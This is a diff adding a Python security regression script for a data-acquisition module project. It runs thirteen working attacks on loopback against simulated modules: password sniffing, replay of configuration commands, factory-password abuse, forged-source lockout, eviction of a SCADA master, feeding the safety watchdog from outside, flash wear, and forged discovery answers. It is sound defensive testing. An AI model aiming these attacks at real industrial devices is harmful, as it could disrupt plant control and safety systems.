@@ -1,0 +1,578 @@
+#!/usr/bin/env python3
+"""Issue #20's findings as attacks, with real packets on loopback against the simulated modules
+(the host build: the modules' own application over std sockets) and the `remodaq` tool of one
+version of this repository.
+
+    attacks.py BIN_DIR [--label NAME]
+
+BIN_DIR holds firmware-8318, firmware-8350 and remodaq of the version under attack. Each
+attack prints one line, `attack NAME: succeeded|failed (what was seen)`, then a summary line
+`attacks LABEL: N succeeded, N failed`. The attacks speak both versions of the configuration
+protocol: 1 (the password in clear, before issue #20) and 2 (challenge and proof), as an
+attacker who knows the target's firmware would. scripts/attacks runs them against the commit
+before issue #20 and against this one: each must succeed there and fail here.
+
+The board-bound findings (the SYN backlog, updates) are shown under QEMU by tools/qemu-e2e and
+by scripts/update-key-check; the remodaq hygiene ones (keygen, strings, search list, net set)
+here.
+"""
+
+import hashlib
+import hmac
+import json
+import os
+import socket
+import stat
+import struct
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+BIN = sys.argv[1]
+LABEL = sys.argv[3] if len(sys.argv) > 3 and sys.argv[2] == "--label" else BIN
+TMP = tempfile.mkdtemp(prefix="remodaq-attacks-")
+RESULTS = []
+NEXT_PORT = [0]
+
+
+def free_port():
+    """A free TCP and UDP port on loopback."""
+    while True:
+        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
+            s.bind(("127.0.0.1", 0))
+            port = s.getsockname()[1]
+        try:
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
+                u.bind(("127.0.0.1", port))
+            return port
+        except OSError:
+            continue
+
+
+class Sim:
+    """A simulated module of the version under attack."""
+
+    def __init__(self, model):
+        self.model = model
+        self.modbus = free_port()
+        self.disc = free_port()
+        self.flash = os.path.join(TMP, f"{model}-{self.modbus}.flash")
+        self.log = open(os.path.join(TMP, f"{model}-{self.modbus}.log"), "w")
+        self.proc = subprocess.Popen(
+            [os.path.join(BIN, f"firmware-{model}"), "--listen", f"127.0.0.1:{self.modbus}",
+             "--discovery", f"127.0.0.1:{self.disc}", "--flash", self.flash],
+            stdout=self.log, stderr=subprocess.STDOUT)
+        for _ in range(100):
+            info = search_raw(self.disc)
+            if info:
+                self.mac = info["mac"]
+                self.version = info["proto"]
+                return
+            time.sleep(0.1)
+        raise RuntimeError(f"the {model} simulator did not answer")
+
+    def stop(self):
+        self.proc.kill()
+        self.proc.wait()
+        # A restarted simulator is a new process of the same arguments (spawn-and-exit).
+        subprocess.run(["pkill", "-f", "--", f"--listen 127.0.0.1:{self.modbus} "], check=False)
+
+
+# --- the configuration protocol, both versions ---------------------------------------------
+
+def header(version, opcode, rid):
+    return b"RDAQ" + bytes([version, opcode]) + struct.pack(">H", rid)
+
+
+def exchange(data, port, src="127.0.0.1", timeout=1.0):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.bind((src, 0))
+        s.settimeout(timeout)
+        s.sendto(data, ("127.0.0.1", port))
+        try:
+            return s.recv(512)
+        except socket.timeout:
+            return None
+
+
+def search_raw(port):
+    """INFO of the module at `port`, in whichever protocol version answers."""
+    for version in (2, 1):
+        reply = exchange(header(version, 0x01, 7), port, timeout=0.3)
+        if reply and reply[5] == 0x81:
+            return {"proto": version, "mac": reply[12:18], "uptime": struct.unpack(">I", reply[46:50])[0]}
+    return None
+
+
+def scram_keys(password, salt, iterations):
+    salted = hashlib.pbkdf2_hmac("sha256", password, salt, iterations)
+    client_key = hmac.new(salted, b"Client Key", hashlib.sha256).digest()
+    server_key = hmac.new(salted, b"Server Key", hashlib.sha256).digest()
+    return client_key, hashlib.sha256(client_key).digest(), server_key
+
+
+def command(sim, opcode, body, password, src="127.0.0.1"):
+    """One configuration command (02 SET_NETWORK, 03 RESTART, 06 GET_ACCESS, 07 SET_ACCESS) as
+    the module's protocol version wants it; the status byte of its answer (None: no answer)."""
+    pw = password.encode()
+    if sim.version == 1:
+        reply = exchange(header(1, opcode, 9) + sim.mac + bytes([len(pw)]) + pw + body, sim.disc, src)
+        return reply[14] if reply else None
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.bind((src, 0))
+        s.settimeout(1.0)
+        cnonce = os.urandom(16)
+        s.sendto(header(2, 0x08, 9) + sim.mac + cnonce, ("127.0.0.1", sim.disc))
+        try:
+            challenge = s.recv(512)
+        except socket.timeout:
+            return None
+        snonce, salt = challenge[30:46], challenge[46:62]
+        iterations = struct.unpack(">I", challenge[62:66])[0]
+        client_key, stored_key, _ = scram_keys(pw, salt, iterations)
+        request = bytearray(header(2, opcode, 10) + sim.mac + cnonce + snonce + bytes(32) + body)
+        message = b"RDAQ discovery v2 request" + bytes(request[:46]) + bytes(request[78:])
+        signature = hmac.new(stored_key, message, hashlib.sha256).digest()
+        request[46:78] = bytes(a ^ b for a, b in zip(client_key, signature))
+        s.sendto(bytes(request), ("127.0.0.1", sim.disc))
+        try:
+            return s.recv(512)[14]
+        except socket.timeout:
+            return None
+
+
+def net_body(ip, mask, gw, port):
+    return bytes(ip) + bytes(mask) + bytes(gw) + struct.pack(">H", port)
+
+
+def allow_body(networks):
+    return bytes([len(networks)]) + b"".join(bytes(ip) + bytes([prefix]) for ip, prefix in networks)
+
+
+def remodaq(*args, env=None, stdin=None):
+    e = dict(os.environ)
+    e.update(env or {})
+    return subprocess.run([os.path.join(BIN, "remodaq"), *args], capture_output=True, text=True, env=e,
+                          timeout=60, stdin=stdin)
+
+
+def set_own_password(sim, password):
+    """The administrator sets a password of its own (the parent's minimum length is 4)."""
+    mac = ":".join(f"{b:02x}" for b in sim.mac)
+    env = {"REMODAQ_PASSWORD": "remodaq", "REMODAQ_NEW_PASSWORD": password}
+    args = ["password", "--mac", mac, "--to", f"127.0.0.1:{sim.disc}"]
+    if sim.version == 1:
+        args += ["--new", password]
+    r = remodaq(*args, env=env)
+    assert r.returncode == 0, r.stderr
+
+
+# --- Modbus --------------------------------------------------------------------------------
+
+class Modbus:
+    def __init__(self, port, src="127.0.0.1"):
+        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self.s.bind((src, 0))
+        self.s.settimeout(2.0)
+        self.s.connect(("127.0.0.1", port))
+        self.tid = 0
+
+    def request(self, pdu):
+        self.tid = (self.tid + 1) & 0xFFFF
+        self.s.sendall(struct.pack(">HHHB", self.tid, 0, len(pdu) + 1, 1) + pdu)
+        head = self.recv(7)
+        return self.recv(struct.unpack(">H", head[4:6])[0] - 1)
+
+    def recv(self, n):
+        out = b""
+        while len(out) < n:
+            chunk = self.s.recv(n - len(out))
+            if not chunk:
+                raise ConnectionError("closed")
+            out += chunk
+        return out
+
+    def read(self, addr, n=1):
+        pdu = self.request(struct.pack(">BHH", 3, addr, n))
+        return list(struct.unpack(f">{n}H", pdu[2:])) if pdu[0] == 3 else None
+
+    def write(self, addr, value):
+        """True if written, else the exception code."""
+        pdu = self.request(struct.pack(">BHH", 6, addr, value))
+        return True if pdu[0] == 6 else pdu[1]
+
+    def close(self):
+        self.s.close()
+
+
+# --- a relay that records what crosses the LAN ----------------------------------------------
+
+class Relay:
+    """Stands between the PC and the module, as a sniffer on the LAN sees it all."""
+
+    def __init__(self, target):
+        self.target = target
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.sock.bind(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.up.bind(("127.0.0.1", 0))
+        self.captured = []
+        self.client = None
+        self.running = True
+        threading.Thread(target=self.down_loop, daemon=True).start()
+        threading.Thread(target=self.up_loop, daemon=True).start()
+
+    def down_loop(self):
+        self.sock.settimeout(0.2)
+        while self.running:
+            try:
+                data, self.client = self.sock.recvfrom(1024)
+            except socket.timeout:
+                continue
+            self.captured.append(data)
+            self.up.sendto(data, ("127.0.0.1", self.target))
+
+    def up_loop(self):
+        self.up.settimeout(0.2)
+        while self.running:
+            try:
+                data = self.up.recv(1024)
+            except socket.timeout:
+                continue
+            if self.client:
+                self.sock.sendto(data, self.client)
+
+    def replay(self, opcode):
+        """Sends the captured requests of `opcode` again, from another socket (the attacker)."""
+        for data in self.captured:
+            if data[5] == opcode:
+                exchange(data, self.target, timeout=0.5)
+
+    def close(self):
+        self.running = False
+
+
+def mac_text(sim):
+    return ":".join(f"{b:02x}" for b in sim.mac)
+
+
+def stored_port(sim):
+    r = remodaq("--json", "--timeout", "0.5", "search", "--to", f"127.0.0.1:{sim.disc}")
+    found = json.loads(r.stdout or "[]")
+    return found[0]["stored"]["port"] if found else None
+
+
+# --- the attacks ---------------------------------------------------------------------------
+
+def attack(name):
+    def wrap(f):
+        def run():
+            try:
+                succeeded, seen = f()
+            except Exception as e:  # an attack that cannot even be tried has failed
+                succeeded, seen = False, f"could not be carried out: {e!r}"
+            print(f"attack {name}: {'succeeded' if succeeded else 'failed'} ({seen})", flush=True)
+            RESULTS.append(succeeded)
+        return run
+    return wrap
+
+
+@attack("password-on-the-wire")
+def password_on_the_wire():
+    """A sniffer reads the configuration password off a SET_NETWORK."""
+    sim = Sim(8318)
+    relay = Relay(sim.disc)
+    try:
+        remodaq("net", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{relay.port}", "--ip", "192.168.0.1",
+                "--mask", "255.255.255.0", "--gateway", "0.0.0.0", "--port", "8000",
+                env={"REMODAQ_PASSWORD": "remodaq"})
+        seen = any(b"remodaq" in d for d in relay.captured)
+        return seen, f"{len(relay.captured)} datagrams captured, the password in them: {seen}"
+    finally:
+        relay.close()
+        sim.stop()
+
+
+def replay_attack(opcode, before, change, undo, check):
+    sim = Sim(8350)
+    relay = Relay(sim.disc)
+    try:
+        before(sim)
+        change(sim, relay.port)
+        undo(sim)
+        relay.replay(opcode)
+        time.sleep(0.3)
+        return check(sim)
+    finally:
+        relay.close()
+        sim.stop()
+
+
+@attack("replay-set-network")
+def replay_set_network():
+    """A captured SET_NETWORK, replayed after the administrator changed the settings again."""
+    def change(sim, port):
+        remodaq("net", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{port}", "--ip", "192.168.0.1",
+                "--mask", "255.255.255.0", "--gateway", "0.0.0.0", "--port", "8111",
+                env={"REMODAQ_PASSWORD": "remodaq"})
+
+    def undo(sim):
+        remodaq("net", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{sim.disc}", "--ip", "192.168.0.1",
+                "--mask", "255.255.255.0", "--gateway", "0.0.0.0", "--port", "8000",
+                env={"REMODAQ_PASSWORD": "remodaq"})
+
+    def check(sim):
+        port = stored_port(sim)
+        return port == 8111, f"stored Modbus port after the replay: {port} (the administrator's: 8000)"
+    return replay_attack(0x02, lambda sim: None, change, undo, check)
+
+
+@attack("replay-set-access")
+def replay_set_access():
+    """A captured SET_ACCESS (an allow-list that locks writes to 10.9.9.9), replayed after the
+    administrator cleared the list."""
+    def before(sim):
+        set_own_password(sim, "plant password")
+
+    def change(sim, port):
+        remodaq("access", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{port}", "10.9.9.9/32",
+                env={"REMODAQ_PASSWORD": "plant password"})
+
+    def undo(sim):
+        remodaq("access", "clear", "--mac", mac_text(sim), "--to", f"127.0.0.1:{sim.disc}",
+                env={"REMODAQ_PASSWORD": "plant password"})
+
+    def check(sim):
+        m = Modbus(sim.modbus)
+        written = m.write(0x100, 1)
+        m.close()
+        refused = written is not True
+        return refused, f"a Modbus write from this PC after the replay: {'refused' if refused else 'allowed'}"
+    return replay_attack(0x07, before, change, undo, check)
+
+
+@attack("replay-restart")
+def replay_restart():
+    """A captured RESTART, replayed later: the module restarts again."""
+    def change(sim, port):
+        remodaq("restart", "--mac", mac_text(sim), "--to", f"127.0.0.1:{port}", env={"REMODAQ_PASSWORD": "remodaq"})
+        time.sleep(3)
+
+    def check(sim):
+        info = None
+        for _ in range(20):
+            info = search_raw(sim.disc)
+            if info:
+                break
+            time.sleep(0.2)
+        up = info["uptime"] if info else None
+        return up is not None and up < 2, f"uptime after the replay: {up} s (3 s if not restarted)"
+    return replay_attack(0x03, lambda sim: None, change, lambda sim: None, check)
+
+
+@attack("factory-password-allow-list")
+def factory_password_allow_list():
+    """Anyone on the LAN uses the universal factory password to lock the module's writes."""
+    sim = Sim(8350)
+    try:
+        status = command(sim, 0x07, allow_body([([10, 6, 6, 6], 32)]), "remodaq")
+        return status == 0, f"SET_ACCESS with the factory password: status {status}"
+    finally:
+        sim.stop()
+
+
+@attack("guessing-from-rotating-sources")
+def rotating_sources():
+    """40 wrong guesses, each from another source address: how many does the module check?"""
+    sim = Sim(8318)
+    try:
+        # Sources inside the module's subnet (127.0.0.0/24 for the simulator): on loopback the
+        # attacker sees the answers, as it does on a LAN for a source outside the module's
+        # subnet (answered by broadcast).
+        statuses = [command(sim, 0x06, b"", f"guess{i}", src=f"127.0.0.{i + 10}") for i in range(40)]
+        checked = statuses.count(1)
+        return checked == 40, f"wrong guesses checked: {checked} of 40 (limited: {statuses.count(2)})"
+    finally:
+        sim.stop()
+
+
+def blind_guess(sim, src):
+    """A wrong guess sent with a forged source address: the attacker never sees the answer (it
+    goes to the real host), so it cannot ask for a nonce either."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.bind((src, 0))
+        if sim.version == 1:
+            s.sendto(header(1, 0x06, 9) + sim.mac + bytes([5]) + b"guess", ("127.0.0.1", sim.disc))
+        else:
+            s.sendto(header(2, 0x06, 9) + sim.mac + os.urandom(64), ("127.0.0.1", sim.disc))
+
+
+@attack("lock-out-the-administrator")
+def lock_out_admin():
+    """Wrong guesses forged from the administrator's own address, two a second for 12 s; then the
+    administrator's own command with the right password."""
+    sim = Sim(8318)
+    try:
+        end = time.time() + 12
+        while time.time() < end:
+            blind_guess(sim, "127.0.0.1")
+            time.sleep(0.5)
+        status = command(sim, 0x06, b"", "remodaq", src="127.0.0.1")
+        return status != 0, f"the administrator's right password: status {status} (0 ok, 2 locked out)"
+    finally:
+        sim.stop()
+
+
+@attack("evict-the-scada-master")
+def evict_master():
+    """The master (on the allow-list) polls once a second; 8 chatty connections from elsewhere
+    and one more each 0.3 s."""
+    sim = Sim(8350)
+    try:
+        if sim.version == 2:
+            set_own_password(sim, "plant password")
+        status = command(sim, 0x07, allow_body([([127, 0, 0, 2], 32)]),
+                         "plant password" if sim.version == 2 else "remodaq")
+        assert status == 0, f"the allow-list: status {status}"
+        master = Modbus(sim.modbus, "127.0.0.2")
+        master.read(0xD2)
+        stop = [False]
+
+        def chatty(i):
+            try:
+                m = Modbus(sim.modbus, f"127.0.1.{i}")
+                while not stop[0]:
+                    m.read(0xD2)
+            except Exception:
+                pass
+        for i in range(8):
+            threading.Thread(target=chatty, args=(i + 1,), daemon=True).start()
+        extra = []
+        for i in range(15):
+            time.sleep(0.3)
+            try:
+                extra.append(Modbus(sim.modbus, f"127.0.2.{i + 1}"))
+            except Exception:
+                pass
+        try:
+            served = master.read(0xD2) is not None
+        except Exception:
+            served = False
+        stop[0] = True
+        return not served, f"the master's next poll: {'answered' if served else 'its connection was closed'}"
+    finally:
+        sim.stop()
+
+
+@attack("watchdog-fed-by-an-outsider")
+def watchdog_outsider():
+    """The master arms a 0.5 s host watchdog and goes silent; a client outside the allow-list
+    keeps reading: do the outputs still reach their safe state?"""
+    sim = Sim(8350)
+    try:
+        if sim.version == 2:
+            set_own_password(sim, "plant password")
+        status = command(sim, 0x07, allow_body([([127, 0, 0, 2], 32)]),
+                         "plant password" if sim.version == 2 else "remodaq")
+        assert status == 0, f"the allow-list: status {status}"
+        master = Modbus(sim.modbus, "127.0.0.2")
+        master.write(0x132, 0)
+        master.write(0x130, 5)
+        outsider = Modbus(sim.modbus, "127.0.0.9")
+        tripped = False
+        for _ in range(20):
+            if outsider.read(0x133) == [1]:
+                tripped = True
+                break
+            time.sleep(0.1)
+        return not tripped, f"watchdog {'tripped' if tripped else 'still fed'} after 2 s of the outsider's reads"
+    finally:
+        sim.stop()
+
+
+@attack("flash-wear")
+def flash_wear():
+    """300 alternating writes of a persisted register: how many reach the flash?"""
+    sim = Sim(8350)
+    try:
+        m = Modbus(sim.modbus)
+        committed = 0
+        for _ in range(300):
+            # Always the other value than the one in force: every write is a change to commit.
+            now = m.read(0x100)[0]
+            if m.write(0x100, now % 2 + 1) is True:
+                committed += 1
+        return committed == 300, f"{committed} of 300 alternating writes committed"
+    finally:
+        sim.stop()
+
+
+def fake_module(version, name, stored_ip):
+    """A forged module: answers a search with `name` and stored settings `stored_ip`, and
+    records every datagram it gets."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("127.0.0.1", 0))
+    got = []
+
+    def serve():
+        s.settimeout(0.2)
+        end = time.time() + 20
+        while time.time() < end:
+            try:
+                data, peer = s.recvfrom(1024)
+            except socket.timeout:
+                continue
+            got.append(data)
+            if len(data) >= 8 and data[5] == 0x01:
+                net = bytes(stored_ip) + bytes([255, 255, 255, 0]) + bytes(4) + struct.pack(">H", 8000)
+                info = (header(version, 0x81, struct.unpack(">H", data[6:8])[0]) + b"\x83\x18\xa1\x00"
+                        + bytes([2, 9, 9, 9, 9, 9]) + net + net + struct.pack(">I", 5) + bytes([len(name)]) + name)
+                info += b"\x00" + (bytes(8) if version == 2 else b"")
+                s.sendto(info, peer)
+    threading.Thread(target=serve, daemon=True).start()
+    return s.getsockname()[1], got
+
+
+@attack("forged-module-strings")
+def forged_strings():
+    """A forged module names itself with a terminal escape sequence: does remodaq print it?"""
+    version = Sim(8318)
+    proto = version.version
+    version.stop()
+    port, _ = fake_module(proto, b"\x1b]0;pwned\x07\x1b[2J", [192, 168, 0, 9])
+    out = remodaq("--timeout", "1", "search", "--to", f"127.0.0.1:{port}").stdout
+    raw = "\x1b" in out
+    return raw, f"escape characters printed raw: {raw}"
+
+
+@attack("net-set-from-a-forged-search")
+def net_set_forged():
+    """`net set --port` fills the other fields from the search answer: a forged answer makes it
+    store the attacker's address."""
+    version = Sim(8318)
+    proto = version.version
+    version.stop()
+    port, got = fake_module(proto, b"RemoDAQ-8318", [6, 6, 6, 6])
+    remodaq("--timeout", "1", "net", "set", "--mac", "02:09:09:09:09:09", "--to", f"127.0.0.1:{port}",
+            "--port", "8001", env={"REMODAQ_PASSWORD": "remodaq"})
+    sent = any(d[5] == 0x02 and bytes([6, 6, 6, 6]) in d for d in got)
+    return sent, f"a SET_NETWORK with the forged address 6.6.6.6 sent: {sent}"
+
+
+@attack("keygen-world-readable")
+def keygen_mode():
+    """`remodaq keygen`'s secret key file: can other users read it?"""
+    key = os.path.join(TMP, "attack.key")
+    remodaq("keygen", key)
+    mode = stat.S_IMODE(os.stat(key).st_mode)
+    return bool(mode & 0o077), f"secret key mode {mode:o}"
+
+
+for run in [password_on_the_wire, replay_set_network, replay_set_access, replay_restart, factory_password_allow_list,
+            rotating_sources, lock_out_admin, evict_master, watchdog_outsider, flash_wear, forged_strings,
+            net_set_forged, keygen_mode]:
+    run()
+print(f"attacks {LABEL}: {sum(RESULTS)} succeeded, {len(RESULTS) - sum(RESULTS)} failed")
